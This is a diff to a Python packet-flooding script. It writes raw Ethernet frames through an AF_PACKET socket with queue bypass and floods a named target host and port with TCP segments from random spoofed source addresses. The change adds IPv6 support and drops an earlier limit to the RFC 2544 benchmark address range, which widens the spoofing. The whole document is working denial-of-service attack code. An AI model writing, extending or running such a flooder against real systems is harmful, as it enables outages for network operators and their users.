@@ -14,11 +14,12 @@ import ctypes
 import random
 import select
 import socket
+import struct
 import sys
 import time
 from typing import List
 
-from flood import syn
+from flood import ethertype, packed, segment, stranger
 
 COUNT = 4096            # different ones
 BURST = 64
@@ -51,15 +52,16 @@ def messages(frames: List[bytes]) -> ctypes.Array:
 
 def main() -> None:
     """Flood until told to stop."""
-    device, ours, theirs, target, port, rate = sys.argv[1:]
-    link = b''.join(bytes.fromhex(mac.replace(':', ''))
-                    for mac in (theirs, ours)) + b'\x08\x00'
+    device, ours, theirs, name, port, rate = sys.argv[1:]
+    target = packed(name)
+    link = b''.join(bytes.fromhex(mac.replace(':', '')) for mac in (theirs, ours)
+                    ) + struct.pack('!H', ethertype(target))
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     sock.bind((device, 0))
     sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
-    # Nobody answers from 198.18.0.0/15 (RFC 2544).
-    frames = [link + syn(bytes((198, 18 + random.getrandbits(1), random.getrandbits(8),
-                                random.getrandbits(8))), socket.inet_aton(target), int(port))
+    frames = [link + segment(stranger(6 if ':' in name else 4), target,
+                             (random.randrange(1024, 65536), int(port)),
+                             random.getrandbits(32))
               for _ in range(COUNT)]
     made = messages(frames)
     libc = ctypes.CDLL(None, use_errno=True)
